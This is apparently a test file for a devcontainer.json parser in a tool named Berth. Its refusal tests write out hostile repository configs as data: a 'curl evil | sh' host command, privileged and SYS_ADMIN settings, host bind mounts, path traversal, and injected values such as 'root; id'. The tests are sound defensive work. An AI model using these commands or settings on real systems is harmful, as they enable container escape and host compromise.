/**
 * devcontainer.json → plan, with files shaped like the ones public repositories carry (the
 * templates' commented image file, a Dockerfile build with labelled ports, a Python image with
 * parallel commands), and the attacks a hostile repository would try.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isBerthError } from '../errors.js';
import { commandArgv, parseDevcontainer } from './config.js';

const F = '.devcontainer/devcontainer.json';

function refused(text: string, pattern: RegExp): void {
  assert.throws(() => parseDevcontainer(text, F, 'repo'), (e: unknown) => isBerthError(e) && e.code === 'E_DEVCONTAINER' && pattern.test(e.message) && !!e.hint);
}

describe('parseDevcontainer', () => {
  it('reads the templates\' commented file: image, default workspace folder, nothing ignored', () => {
    const plan = parseDevcontainer(
      `// For format details, see the spec.\n{\n\t"name": "Ubuntu",\n\t// Or use a Dockerfile.\n\t"image": "mcr.microsoft.com/devcontainers/base:jammy"\n\t// "features": {},\n}\n`,
      F,
      'zoomcamp',
    );
    assert.equal(plan.image, 'mcr.microsoft.com/devcontainers/base:jammy');
    assert.equal(plan.build, null);
    assert.equal(plan.name, 'Ubuntu');
    assert.equal(plan.workspaceFolder, '/workspaces/zoomcamp');
    assert.equal(plan.overrideCommand, true);
    assert.deepEqual(plan.ignored, []);
    assert.deepEqual(plan.ports, []);
  });

  it('a Dockerfile build next to the file, labelled ports, remoteUser, keep prefix from the berth customization', () => {
    const plan = parseDevcontainer(
      JSON.stringify({
        name: 'Starter',
        build: { dockerfile: 'Dockerfile', args: { VARIANT: 'bookworm' }, target: 'dev' },
        customizations: { vscode: { extensions: ['ms-python.python'] }, berth: { prefix: { '8888': 'keep' } } },
        forwardPorts: [8000, 8888, 5173, 'db:5432', 8000],
        portsAttributes: { '8000': { label: 'Backend API' }, '8888': { label: 'Jupyter' } },
        remoteUser: 'vscode',
        postCreateCommand: 'pip install -r requirements.txt',
        postStartCommand: ['sh', '-c', 'echo started > /tmp/started'],
      }),
      F,
      'starter',
    );
    assert.equal(plan.image, null);
    assert.deepEqual(plan.build, { dockerfile: '.devcontainer/Dockerfile', context: '.devcontainer', args: { VARIANT: 'bookworm' }, target: 'dev' });
    assert.deepEqual(plan.ports, [
      { port: 8000, label: 'Backend API', prefix: 'strip' },
      { port: 8888, label: 'Jupyter', prefix: 'keep' },
      { port: 5173, label: null, prefix: 'strip' },
    ]);
    assert.deepEqual(plan.ignored, ['forwardPorts db:5432: ports of other containers (Docker Compose) are not forwarded']);
    assert.equal(plan.remoteUser, 'vscode');
    assert.deepEqual(plan.postCreateCommand, { shell: 'pip install -r requirements.txt' });
    assert.deepEqual(commandArgv(plan.postCreateCommand as { shell: string }), ['/bin/sh', '-c', 'pip install -r requirements.txt']);
    assert.deepEqual(plan.postStartCommand, { argv: ['sh', '-c', 'echo started > /tmp/started'] });
  });

  it('context ".." from .devcontainer is the repository root; the legacy dockerFile/context spelling works', () => {
    const a = parseDevcontainer('{"build": {"dockerfile": "Dockerfile", "context": ".."}}', F, 'r');
    assert.deepEqual([a.build?.dockerfile, a.build?.context], ['.devcontainer/Dockerfile', '.']);
    const b = parseDevcontainer('{"dockerFile": "../docker/dev.Dockerfile", "context": ".."}', F, 'r');
    assert.deepEqual([b.build?.dockerfile, b.build?.context], ['docker/dev.Dockerfile', '.']);
    const c = parseDevcontainer('{"build": {"dockerfile": "Dockerfile"}}', '.devcontainer.json', 'r');
    assert.deepEqual([c.build?.dockerfile, c.build?.context], ['Dockerfile', '.']);
  });

  it('lists what it does not apply instead of dropping it silently', () => {
    const plan = parseDevcontainer(
      '{"image": "python:3.11", "postAttachCommand": {"server": "streamlit run app.py"}, "hostRequirements": {"cpus": 4}, "shutdownAction": "none"}',
      F,
      'r',
    );
    assert.deepEqual(plan.ignored, ['postAttachCommand: not supported by Berth', 'hostRequirements: not supported by Berth', 'shutdownAction: not supported by Berth']);
  });

  it('parallel lifecycle commands, variables of the container side substituted', () => {
    const plan = parseDevcontainer(
      '{"image": "node:22", "workspaceFolder": "/src/app", "postCreateCommand": {"deps": "npm ci", "info": ["ls", "${containerWorkspaceFolder}"]}, "containerEnv": {"APP": "${containerWorkspaceFolderBasename}", "X": "${containerEnv:PATH}"}}',
      F,
      'r',
    );
    assert.deepEqual(plan.postCreateCommand, { parallel: { deps: { shell: 'npm ci' }, info: { argv: ['ls', '/src/app'] } } });
    assert.deepEqual(plan.containerEnv, { APP: 'app', X: '${containerEnv:PATH}' });
  });

  it("${localEnv:…} never carries the daemon's environment into the workspace", () => {
    process.env.BERTH_TEST_SECRET_FOR_DEVCONTAINER = 'do-not-leak';
    const plan = parseDevcontainer('{"image": "node:22", "containerEnv": {"TOKEN": "${localEnv:BERTH_TEST_SECRET_FOR_DEVCONTAINER}", "HOME_DIR": "${localWorkspaceFolder}/x"}}', F, 'r');
    assert.deepEqual(plan.containerEnv, { TOKEN: '', HOME_DIR: '/x' });
    assert.equal(plan.ignored.length, 1);
    assert.match(plan.ignored[0]!, /localEnv/);
  });

  it('refuses what escapes isolation, naming the property', () => {
    refused('{"image": "debian:12", "privileged": true}', /"privileged" is refused/);
    refused('{"image": "debian:12", "capAdd": ["SYS_ADMIN"]}', /"capAdd" is refused/);
    refused('{"image": "debian:12", "securityOpt": ["seccomp=unconfined"]}', /"securityOpt"/);
    refused('{"image": "debian:12", "runArgs": ["--network=host"]}', /"runArgs"/);
    refused('{"image": "debian:12", "mounts": ["source=/,target=/host,type=bind"]}', /"mounts"/);
    refused('{"image": "debian:12", "workspaceMount": "source=/etc,target=/w,type=bind"}', /"workspaceMount"/);
    refused('{"image": "debian:12", "initializeCommand": "curl evil | sh"}', /runs on the host/);
    refused('{"dockerComposeFile": "compose.yml", "service": "app"}', /Compose/);
    refused('{"image": "debian:12", "features": {"ghcr.io/devcontainers/features/github-cli:1": {}}}', /Features are not supported/);
    // An empty features object and privileged: false change nothing and pass.
    assert.equal(parseDevcontainer('{"image": "debian:12", "features": {}, "privileged": false}', F, 'r').image, 'debian:12');
  });

  it('keeps the build inside the repository', () => {
    refused('{"build": {"dockerfile": "../../etc/Dockerfile"}}', /outside the repository/);
    refused('{"build": {"dockerfile": "Dockerfile", "context": "../.."}}', /outside the repository/);
    refused('{"build": {"dockerfile": "/etc/Dockerfile"}}', /outside the repository/);
  });

  it('refuses values an engine could read as options or that are malformed', () => {
    refused('{"image": "--privileged"}', /image/);
    refused('{"image": "debian:12", "remoteUser": "--user=0"}', /remoteUser/);
    refused('{"image": "debian:12", "containerUser": "root; id"}', /containerUser/);
    refused('{"image": "debian:12", "containerEnv": {"-e": "x"}}', /env names/);
    refused('{"image": "debian:12", "build": {"dockerfile": "Dockerfile"}}', /both "image" and a Dockerfile/);
    refused('{"name": "nothing"}', /neither "image" nor "build.dockerfile"/);
    refused('{"image": "debian:12", "forwardPorts": [70000]}', /not a port number/);
    refused('{"image": "debian:12", "workspaceFolder": "relative/path"}', /workspaceFolder/);
    refused('{"image": "debian:12", "workspaceFolder": "/"}', /workspaceFolder/);
    refused('{"image": "debian:12", "postCreateCommand": 42}', /postCreateCommand/);
    refused('{"build": {"dockerfile": "D", "target": "-x"}}', /target/);
    refused('{"image": "debian:12", "customizations": {"berth": {"prefix": {"8888": "maybe"}}}}', /customizations.berth.prefix/);
  });

  it('names the line of a syntax error', () => {
    refused('{\n  "image": "debian:12",\n  "name": }\n', /at line 3/);
    refused('[1, 2]', /not a JSON object/);
  });
});
